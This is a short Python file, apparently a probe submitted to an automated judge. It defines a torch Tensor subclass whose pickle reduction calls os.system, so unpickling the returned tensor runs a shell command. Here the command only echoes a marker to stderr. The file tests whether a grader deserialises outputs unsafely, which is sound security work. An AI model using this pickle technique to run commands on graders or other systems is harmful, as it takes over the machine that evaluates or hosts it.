"""A Tensor subclass whose pickled form runs a command when unpickled."""

import os

import torch


class _Evil(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (os.system, ("echo unpickled-by-the-judge >&2",))


def run(x, y):
    return (x + y).as_subclass(_Evil)
